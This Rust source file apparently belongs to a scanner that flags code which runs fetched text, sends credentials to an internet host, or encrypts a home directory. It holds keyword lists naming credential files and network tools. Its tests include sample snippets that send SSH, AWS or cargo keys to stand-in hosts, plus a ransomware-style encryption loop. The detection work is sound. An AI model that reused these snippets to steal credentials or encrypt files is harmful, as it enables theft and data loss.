// SPDX-License-Identifier: Apache-2.0 OR MIT

//! Finds signs of danger in code of any language, by the names and literals in its text.
//!
//! The readers of this crate follow values, but only in described languages and only through described calls. The signs
//! complement them: each one needs several independent parts in the same text, so that a single word never decides.

/// What the text of code reveals about its purpose.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CodeSign {
    /// It downloads something, and it runs text.
    RunsFetched,
    /// It reads a store of credentials, and it connects to a machine on the internet.
    SendsCredential,
    /// It encrypts the files below a home directory.
    EncryptsFiles,
}

/// Returns the signs in code, in time linear in its length.
pub fn find_signs(code: &str) -> Vec<CodeSign> {
    let code = super::readable_start(code).to_ascii_lowercase();
    let has = |words: &[&str]| words.iter().any(|word| code.contains(word));
    let mut signs = Vec::new();
    if has(FETCH_CALLS) && has(RUN_CALLS) {
        signs.push(CodeSign::RunsFetched);
    }
    if has(CREDENTIAL_STORES) && has(READ_CALLS) && has(SEND_CALLS) && names_internet_host(&code) {
        signs.push(CodeSign::SendsCredential);
    }
    if has(ENCRYPT_CALLS) && has(WALK_CALLS) && has(HOME_NAMES) && has(OVERWRITE_CALLS) {
        signs.push(CodeSign::EncryptsFiles);
    }
    signs
}

/// Calls that download, in any of the languages. All lists are in lower case.
const FETCH_CALLS: &[&str] = &[
    "urlopen(",
    "requests.get(",
    "urlretrieve(",
    "httpx.get(",
    "fetch(",
    "httpx.",
    "requests.post(",
    "requests.session(",
    "urllib.request.",
    "urllib3",
    "aiohttp",
    "http.client",
    "http.get(",
    "https.get(",
    "https').get(",
    "https\").get(",
    "http').get(",
    "http\").get(",
    "axios",
    "http::tiny",
    "socket.http",
    "url(\"http",
    "url('http",
    "lwp::",
    "net::http",
    "open-uri",
    "uri.open(",
    "file_get_contents('http",
    "file_get_contents(\"http",
    "copy(\"http",
    "copy('http",
    "curl_exec",
    "downloadstring",
    "downloadfile",
    "download.file(",
    "readlines(\"http",
    "readlines('http",
    "iwr ",
    "irm ",
    "invoke-webrequest",
    "invoke-restmethod",
    "popen(\"curl ",
    "popen('curl ",
    "popen(\"wget ",
    "popen('wget ",
    "newhttpclient",
    "httpclient.new",
    "httpc:request",
    ":httpc.request",
    "httpoison.",
    "req.get!",
    "reqwest::",
    "ureq::",
    "::http::geturl",
    "http::geturl",
    "simplehttp",
    "url-retrieve",
    "urlsession",
    "string(contentsof",
    "data(contentsof",
    "uri(\"http",
    "uri('http",
    "fromurl(",
    "tourl().",
    "http_get",
    "get-pure-port",
    "call/input-url",
    "postasync",
    "getstringasync",
];

/// Calls that run text, in any of the languages.
const RUN_CALLS: &[&str] = &[
    "exec(",
    "exec (",
    "eval(",
    "eval)(",
    "eval ",
    "system(",
    "iex",
    "invoke-expression",
    "new function(",
    "execfile",
    "execsync(",
    "execv",
    "popen(",
    "._compile(",
    ".runinthiscontext(",
    ".runinnewcontext(",
    ".runincontext(",
    "vm.script(",
    "loadstring(",
    "marshal.loads(",
    "pickle.loads(",
    "runpy.",
    "exec_module(",
    "shell=true",
    "'bash'",
    "\"bash\"",
    "'sh'",
    "\"sh\"",
    "/bin/sh",
    "/bin/bash",
    "source(",
    "os.execute(",
    ".execute()",
    "passthru(",
    "shell_exec(",
    "instance_eval",
    "code.eval_",
    "load-string",
    "eval-buffer",
    "exec.command(",
    "command::new(",
    "code:load_binary",
    "include_string(",
    "uplevel ",
    "spawn(",
    "(system ",
    "(shell ",
    "(sh ",
];

/// Calls that read a file or run a program that does.
const READ_CALLS: &[&str] = &[
    "read", "open", "slurp", "contents", "cat ", "tar ", "cp ", "zip", "glob", "upload", "@", "file", "load",
    "copy", "include", "stream",
];

/// Files and directories with credentials, as they are written in code.
const CREDENTIAL_STORES: &[&str] = &[
    ".ssh/id_",
    "\".ssh\"",
    "'.ssh'",
    "/.ssh/\"",
    "/.ssh/'",
    "/.ssh\"",
    "/.ssh'",
    "/.ssh ",
    ".aws/credentials",
    "\".aws\"",
    "'.aws'",
    "/.aws\"",
    "/.aws'",
    "/.aws ",
    "/.gnupg",
    "'.gnupg'",
    "\".gnupg\"",
    "/.kube/config",
    "/.docker/config.json",
    "/.npmrc",
    ".gradle/gradle.properties",
    ".m2/settings.xml",
    "/.netrc",
    "'.netrc'",
    "\".netrc\"",
    "/.pgpass",
    "/.pypirc",
    "git-credentials",
    ".cargo/credentials",
    ".gem/credentials",
    ".config/gh/hosts",
    ".config/gcloud",
    "application_default_credentials",
    "/.azure",
    "/etc/shadow",
    "login data",
    "cookies.sqlite",
    "key4.db",
    "logins.json",
    "share/keyrings",
    "login.keyring",
    ".password-store",
    "wallet.dat",
    ".vault-token",
    "rclone.conf",
    "/.my.cnf",
    "library/keychains",
    "_history\"",
    "_history'",
];

/// Calls that send data, in any of the languages. Programs that only log in with a key are not among them.
const SEND_CALLS: &[&str] = &[
    "tcpstream::connect",
    "net.dial",
    "socket",
    "http.post",
    ".post(",
    "post(",
    "/post ",
    "put(",
    "fetch(",
    "requests.",
    "urlopen",
    "net::http",
    "lwp",
    "http::tiny",
    "curl",
    "wget",
    "httpclient",
    "http.client",
    "xmlhttprequest",
    "fsockopen",
    "stream_context",
    "smtplib",
    ".request(",
    "net.connect",
    "net.createconnection",
    "nc ",
    "ncat ",
    "reqwest",
    "ureq",
    "axios",
    "postasync",
    "putasync",
    "gen_tcp",
    "httpc",
    "httpoison",
    "webclient",
    "webrequest",
    "urlsession",
    "new url(",
    "urlconnection",
    "openconnection",
    "scp ",
    "rsync ",
    "ftplib",
    "net::ftp",
    "sendbeacon",
    "websocket",
];

const ENCRYPT_CALLS: &[&str] = &[
    "encrypt(",
    "fernet",
    "createcipheriv",
    "openssl_encrypt",
    "aes.new",
    "cipher.new",
    "newcipher",
    "newgcm",
];

const WALK_CALLS: &[&str] = &[
    "rglob(",
    "os.walk",
    "glob(",
    "recursivedirectoryiterator",
    "walkdir",
    "filepath.walk",
    "find.find",
    "file::find",
    "readdir",
    "scandir",
    "dir.glob",
    "walk(",
];

const HOME_NAMES: &[&str] = &[
    "home()",
    "homedir",
    "expanduser",
    "\"home\"",
    "'home'",
    "{home}",
    "$home",
    "dir.home",
    "/home/",
    "/users/",
    "~/",
    "user.home",
    "<home>",
    "home_dir",
    "userprofile",
];

const OVERWRITE_CALLS: &[&str] =
    &["write", "rename", "remove", "unlink", "'wb'", "\"wb\"", "put_contents", "rb+", "r+b"];

/// Whether a text contains the address of a machine on the internet: a URL or an IPv4 address.
fn names_internet_host(code: &str) -> bool {
    let is_local = |host: &str| {
        const STARTS: &[&str] = &[
            "localhost",
            "127.",
            "0.0.0.0",
            "10.",
            "192.168.",
            "172.16.",
            "172.17.",
            "169.254.",
            "[::1]",
            "::1",
        ];
        const ENDS: &[&str] = &[".local", ".internal", ".test", ".localhost", ".lan"];
        STARTS.iter().any(|start| host.starts_with(start)) || ENDS.iter().any(|end| host.ends_with(end))
    };
    let is_host_letter = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-');
    let host_of = |rest: &str| -> String { rest.chars().take_while(|c| is_host_letter(*c)).collect() };
    // `https://user@host`
    let skip_user = |rest: &'_ str| -> String {
        let user = rest.split_once('@').filter(|(user, _)| !user.contains(['/', '"', '\'', ' ', '\n']));
        host_of(user.map_or(rest, |(_, host)| host))
    };
    let is_outside = |host: &str| host.contains('.') && !is_local(host);
    code.split("://").skip(1).any(|rest| is_outside(&skip_user(rest)))
        || code.split(|c: char| !is_host_letter(c)).any(|word| is_ipv4(word) && !is_local(word))
}

/// Whether a word is an IPv4 address.
fn is_ipv4(word: &str) -> bool {
    let mut count = 0;
    let all = word.split('.').all(|part| {
        count += 1;
        part.len() <= 3 && part.parse::<u8>().is_ok()
    });
    all && count == 4
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_that_reads_credentials_and_connects_to_the_internet_is_found() {
        for code in [
            r#"let p = format!("{}/.cargo/credentials.toml", home); let s = fs::read(p); TcpStream::connect("203.0.113.9:4443")"#,
            "import asyncdispatch, httpclient\nlet c = newHttpClient()\ndiscard c.postContent(\"https://c.example.com\", readFile(getHomeDir() & \"/.ssh/id_rsa\"))",
            "set f [open ~/.aws/credentials]; set s [socket 203.0.113.5 80]; puts $s [read $f]",
            "data, _ := os.ReadFile(filepath.Join(home, \".ssh\", \"id_ed25519\")); http.Post(\"http://203.0.113.7/u\", \"\", bytes.NewReader(data))",
        ] {
            assert!(find_signs(code).contains(&CodeSign::SendsCredential), "{code}");
        }
        for code in [
            "client.connect('203.0.113.7', key_filename=expanduser('~/.ssh/id_rsa'))",
            "requests.get('http://localhost:8000/x'); open('/home/u/.npmrc')",
            "# copies ~/.aws/credentials\nprint(open('a').read())",
            "fetch('https://api.example.com/items').then(r => r.json())",
        ] {
            assert!(!find_signs(code).contains(&CodeSign::SendsCredential), "{code}");
        }
    }

    #[test]
    fn code_that_encrypts_a_home_directory_is_found() {
        let code = "k = Fernet(key)\nfor p in pathlib.Path.home().rglob('*'):\n  p.write_bytes(k.encrypt(p.read_bytes()))";
        assert_eq!(find_signs(code), [CodeSign::EncryptsFiles]);
        assert_eq!(find_signs("k = Fernet(key)\nopen('a', 'wb').write(k.encrypt(open('b').read()))"), []);
    }
}
